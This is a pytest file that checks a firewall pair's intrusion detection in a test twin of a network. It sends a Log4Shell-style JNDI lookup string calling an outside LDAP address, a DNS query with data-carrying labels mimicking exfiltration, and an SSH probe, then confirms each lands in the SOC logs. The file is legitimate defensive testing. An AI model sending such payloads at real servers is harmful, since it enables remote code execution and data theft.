"""What passes between zones is looked at; an exploit stands in both SOC logs within half a minute (C-NET-05)."""

from __future__ import annotations

import socket
from contextlib import suppress
from uuid import uuid4

import pytest

from qhs.inventory import groups
from qhs.twin import inside
from qhs.twin.names import Twin
from stacks.model import load
from tests.twin.conftest import WatchedUp
from tests.twin.hosts import Hosts
from tests.twin.soc import WITHIN, heard
from tests.twin.waiting import await_

pytestmark = pytest.mark.live

ESTATE = load("twin")
FIREWALLS = tuple(groups(ESTATE)["role_firewall"])
TAG = "qhs-inspection"
EXPLOIT, STRAY_SSH, LONG_NAME = '"signature_id":9000001', '"signature_id":9000010', '"signature_id":9000020'
LARGEST = 64_000  # KiB of one firewall: its caps add up to 33 MiB, beside the program; 46 once every cell was probed
NAMES = next(one for one in ESTATE.services if (one.service, one.place) == ("public-names", "qhdc.dmz-public"))


def question(name: str) -> bytes:
    """For any record of a name; its number does not matter."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\x10\0\1"


def send(twin: Twin, data: bytes) -> None:
    """From the Internet to the public name server, by a flow that there is."""

    def sent() -> None:
        for family, address in zip((socket.AF_INET, socket.AF_INET6), NAMES.targets[0].texts(), strict=True):
            with socket.socket(family, socket.SOCK_DGRAM) as one:
                one.sendto(data, (address, 53))

    inside.call(twin.netns_path("voter"), sent)


def seen(hosts: Hosts, *texts: str) -> bool:
    """By a member of the pair that the packet came in at."""
    return any(heard(hosts, member, TAG, *texts) for member in ESTATE.firewalls("qhdc"))


def told_on(hosts: Hosts, text: str) -> int:
    """Lines in the journals of the pair."""
    said = hosts.say(f"journalctl -t {TAG} -o cat --no-pager | grep -c -F '{text}' || true", ESTATE.firewalls("qhdc"))
    return sum(map(int, said.values()))


def test_an_exploit_is_in_both_soc_logs_within_half_a_minute(twin: Twin, hosts: Hosts, second_up: WatchedUp) -> None:
    before = told_on(hosts, EXPLOIT)
    send(twin, f"${{jndi:ldap://198.18.0.1/{uuid4().hex}}}".encode())
    await_(lambda: told_on(hosts, EXPLOIT) > before, WITHIN)
    await_(lambda: seen(hosts, EXPLOIT, NAMES.targets[0].texts()[0]), WITHIN)


def test_a_name_that_carries_data_is_told_of_and_a_usual_one_is_not(
    twin: Twin, hosts: Hosts, second_up: WatchedUp
) -> None:
    carried = f"{uuid4().hex}.{'a' * 60}.{'b' * 60}"
    send(twin, question(f"{uuid4().hex}.quochoi.vn"))
    send(twin, question(carried))
    await_(lambda: seen(hosts, LONG_NAME, carried), WITHIN)
    assert not seen(hosts, LONG_NAME, "quochoi.vn")


def test_ssh_from_where_none_may_come_is_told_of_though_it_is_dropped(
    twin: Twin, hosts: Hosts, second_up: WatchedUp
) -> None:
    (bastion,) = (one for one in ESTATE.services if (one.service, one.place) == ("bastion", "qhdc.management"))
    address = bastion.targets[0].texts()[0]

    def knock() -> None:
        with suppress(OSError), socket.create_connection((address, 22), timeout=2):
            pytest.fail("the bastion answers the Internet")

    inside.call(twin.netns_path("voter"), knock)
    await_(lambda: seen(hosts, STRAY_SSH, f'"dest_ip":"{address}"'), WITHIN)


def test_each_firewall_inspects_and_takes_little(hosts: Hosts, second_up: WatchedUp) -> None:
    assert len(FIREWALLS) == 6
    command = "systemctl is-active qhs-inspection; grep VmRSS /proc/$(pgrep -f '^/usr/bin/suricata')/status"
    for name, said in hosts.say(command, FIREWALLS).items():
        state, resident = said.splitlines()
        assert state == "active", name
        assert int(resident.split()[1]) < LARGEST, (name, resident)
